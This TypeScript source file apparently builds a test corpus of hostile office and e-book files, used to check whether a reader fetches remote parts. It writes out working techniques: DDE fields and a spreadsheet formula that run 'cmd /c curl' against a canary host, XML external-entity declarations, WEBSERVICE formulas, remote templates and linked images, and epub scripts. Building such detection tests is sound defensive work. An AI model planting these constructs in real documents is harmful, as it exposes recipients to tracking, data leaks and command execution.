import { type HostileFile, type Lure, payload, proseOf, zipFile } from './hostile-file';

const relationshipsOf = (entries: [type: string, target: string, isExternal?: boolean][]): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries
    .map(
      ([type, target, isExternal = true], i) =>
        `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`,
    )
    .join('')}</Relationships>`;

const typesOf = (main: string, kind: string): string =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`;

const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const drawing =
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"';

function docx(
  name: string,
  body: string,
  links: [string, string][],
  type = '',
): Promise<HostileFile> {
  return zipFile(`docx-${name}.docx`, {
    '[Content_Types].xml': typesOf('word/document.xml', 'wordprocessingml.document'),
    '_rels/.rels': relationshipsOf([['officeDocument', 'word/document.xml', false]]),
    'word/document.xml': `<?xml version="1.0"?>${type}<w:document ${word} ${drawing}><w:body><w:p><w:r><w:t>${proseOf(name)}</w:t></w:r></w:p>${body}</w:body></w:document>`,
    'word/_rels/document.xml.rels': relationshipsOf(links),
  });
}

const field = (instruction: string): string =>
  `<w:p><w:fldSimple w:instr="${instruction}"><w:r><w:t>field</w:t></w:r></w:fldSimple><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>${instruction}</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const documents = ({ canary, nowhere }: Lure): Promise<HostileFile>[] => [
  docx('template', '', [
    ['attachedTemplate', `${canary}/t.dotm`],
    ['settings', `${nowhere}/settings.xml`],
  ]),
  docx('linked-image', '<w:p><w:drawing><a:blip r:link="rId1" r:embed="rId2"/></w:drawing></w:p>', [
    ['image', `${canary}/i.png`],
    ['image', `${nowhere}/j.png`],
  ]),
  docx('include', field(`INCLUDEPICTURE &quot;${canary}/i.png&quot; \\d`), []),
  docx(
    'dde',
    field(`DDEAUTO cmd &quot;/c curl ${canary}&quot;`) + field(`INCLUDETEXT ${nowhere}/t`),
    [],
  ),
  docx('chunk', '<w:altChunk r:id="rId1"/><w:object><o r:id="rId2"/></w:object>', [
    ['aFChunk', `${canary}/a.html`],
    ['oleObject', `${nowhere}/o.bin`],
  ]),
  docx(
    'entity',
    '<w:p><w:r><w:t>&x;</w:t></w:r></w:p>',
    [],
    `<!DOCTYPE d [<!ENTITY x SYSTEM "${canary}/x.ent">]>`,
  ),
];

function pptx(name: string, shape: string, links: [string, string][]): Promise<HostileFile> {
  const slide = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"';
  return zipFile(`pptx-${name}.pptx`, {
    '[Content_Types].xml': typesOf('ppt/presentation.xml', 'presentationml.presentation'),
    '_rels/.rels': relationshipsOf([['officeDocument', 'ppt/presentation.xml', false]]),
    'ppt/presentation.xml': `<p:presentation ${slide} ${drawing}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>`,
    'ppt/_rels/presentation.xml.rels': relationshipsOf([['slide', 'slides/slide1.xml', false]]),
    'ppt/slides/slide1.xml': `<p:sld ${slide} ${drawing}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>${proseOf(name)}</a:t></a:r></a:p></p:txBody></p:sp>${shape}</p:spTree></p:cSld></p:sld>`,
    'ppt/slides/_rels/slide1.xml.rels': relationshipsOf(links),
  });
}

const presentations = ({ canary, nowhere }: Lure): Promise<HostileFile>[] => [
  pptx('linked-image', '<p:pic><p:blipFill><a:blip r:link="rId1"/></p:blipFill></p:pic>', [
    ['image', `${canary}/i.png`],
  ]),
  pptx('video', '<p:pic><p:nvPr><a:videoFile r:link="rId1"/></p:nvPr></p:pic>', [
    ['video', `${canary}/v.mp4`],
    ['hyperlink', `${nowhere}/`],
  ]),
];

const openNames =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"';

function open(name: string, type: string, body: string, doctype = ''): Promise<HostileFile> {
  return zipFile(name, {
    mimetype: `application/vnd.oasis.opendocument.${type}`,
    'content.xml': `<?xml version="1.0"?>${doctype}<office:document-content ${openNames}><office:body><office:${type}>${body}</office:${type}></office:body></office:document-content>`,
    'META-INF/manifest.xml': '<manifest/>',
    // Readers of spreadsheets want one.
    'styles.xml': `<office:document-styles ${openNames}/>`,
  });
}

function openDocuments(lure: Lure): Promise<HostileFile>[] {
  const { canary, nowhere } = lure;
  const prose = (name: string) => `<text:p>${proseOf(name)}</text:p>`;
  const frame = `<draw:frame><draw:image xlink:href="${canary}/i.png" xlink:actuate="onLoad"/><draw:object xlink:href="${nowhere}/o"/></draw:frame>`;
  return [
    open('odt-image.odt', 'text', `${prose('odt-image')}<text:p>${frame}</text:p>`),
    open(
      'odt-script.odt',
      'text',
      `${prose('odt-script')}<office:scripts><script:event-listener xlink:href="${canary}/macro"/></office:scripts><text:section><text:section-source xlink:href="${nowhere}/s.odt"/></text:section>`,
    ),
    open(
      'odp-image.odp',
      'presentation',
      `<draw:page draw:name="one"><draw:frame><draw:text-box>${prose('odp-image')}</draw:text-box></draw:frame>${frame}</draw:page>`,
    ),
    open(
      'ods-webservice.ods',
      'spreadsheet',
      `<table:table table:name="S"><table:table-row><table:table-cell><text:p>name</text:p></table:table-cell><table:table-cell><text:p>price</text:p></table:table-cell></table:table-row><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${canary}/w&quot;)"><text:p>boat</text:p></table:table-cell><table:table-cell><text:p>3</text:p></table:table-cell></table:table-row></table:table>`,
    ),
  ];
}

interface Sheet {
  formula?: string;
  after?: string;
  links?: [string, string][];
  bookLinks?: [string, string][];
  doctype?: string;
}

function xlsx(
  name: string,
  { formula = '', after = '', links = [], bookLinks = [], doctype = '' }: Sheet,
) {
  const sheet = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const cell = (at: string, text: string, inside = '') =>
    `<c r="${at}" t="str">${inside}<v>${text}</v></c>`;
  const f = formula && `<f>${formula}</f>`;
  return zipFile(`xlsx-${name}.xlsx`, {
    '[Content_Types].xml': `${typesOf('xl/workbook.xml', 'spreadsheetml.sheet').replace('</Types>', '')}<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    '_rels/.rels': relationshipsOf([['officeDocument', 'xl/workbook.xml', false]]),
    'xl/workbook.xml': `<?xml version="1.0"?>${doctype}<workbook ${sheet} ${drawing}><sheets><sheet name="Prices" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relationshipsOf([
      ['worksheet', 'worksheets/sheet1.xml', false],
      ...bookLinks,
    ]),
    'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><worksheet ${sheet} ${drawing}><sheetData><row r="1">${cell('A1', 'name')}${cell('B1', 'price')}</row><row r="2">${cell('A2', `boat ${name}`, f)}${cell('B2', '3')}</row></sheetData>${after}</worksheet>`,
    'xl/worksheets/_rels/sheet1.xml.rels': relationshipsOf(links),
  });
}

const workbooks = ({ canary, nowhere }: Lure): Promise<HostileFile>[] => [
  xlsx('webservice', { formula: `WEBSERVICE("${canary}/w")` }),
  xlsx('dde', { formula: `cmd|'/c curl ${canary}'!A0` }),
  xlsx('link', {
    after: '<hyperlinks><hyperlink ref="A2" r:id="rId1"/></hyperlinks>',
    links: [['hyperlink', `${canary}/click`]],
    bookLinks: [['externalLinkPath', `${nowhere}/other.xlsx`]],
  }),
  xlsx('entity', { doctype: `<!DOCTYPE w [<!ENTITY % x SYSTEM "${canary}/x.dtd"> %x;]>` }),
];

function epub(name: string, chapter: string, manifest = '', doctype = ''): Promise<HostileFile> {
  return zipFile(`epub-${name}.epub`, {
    mimetype: 'application/epub+zip',
    'META-INF/container.xml':
      '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    'book.opf': `<package xmlns="http://www.idpf.org/2007/opf"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${name}</dc:title></metadata><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/>${manifest}</manifest><spine><itemref idref="c"/></spine></package>`,
    'c.xhtml': `<?xml version="1.0"?>${doctype}<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>${name}</h1><p>${proseOf(name)}</p>${chapter}</body></html>`,
  });
}

const books = (lure: Lure): Promise<HostileFile>[] => [
  epub(
    'script',
    `<script>${payload(lure).replaceAll('&', '&amp;')}</script><script src="${lure.canary}/e.js"/>`,
  ),
  epub(
    'image',
    `<img src="${lure.canary}/i.png"/><link rel="stylesheet" href="${lure.nowhere}/s.css"/>`,
  ),
  epub(
    'manifest',
    '',
    `<item id="r" href="${lure.canary}/r.mp3" media-type="audio/mpeg" properties="remote-resources"/>`,
  ),
  epub('entity', '<p>&x;</p>', '', `<!DOCTYPE html [<!ENTITY x SYSTEM "${lure.canary}/x">]>`),
];

/** Documents of office programs whose parts lie elsewhere. */
export const officeFiles = (lure: Lure): Promise<HostileFile[]> =>
  Promise.all([
    ...documents(lure),
    ...presentations(lure),
    ...openDocuments(lure),
    ...workbooks(lure),
    ...books(lure),
  ]);
